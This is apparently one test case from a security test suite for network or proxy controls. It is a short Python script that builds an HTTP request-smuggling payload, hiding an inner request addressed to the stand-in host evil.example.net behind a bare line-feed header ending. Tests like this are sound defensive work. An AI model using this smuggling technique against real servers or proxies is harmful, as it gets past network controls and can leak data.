# /// attack
# guarantee = "network"
# summary = "Ends a line by a line feed alone, which hides a request in a header."
# reference = "RFC 9112, 2.2"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "proxy control characters" }
# ///

from kit import exchange, judge, target, url

inner = f"GET /{target('MARKER')} HTTP/1.1\nHost: evil.example.net\nConnection: close"
judge(
    exchange("example.org", f"GET {url('example.org', '/')} HTTP/1.1\r\nHost: example.org\n\n{inner}\r\n\r\n".encode())
)
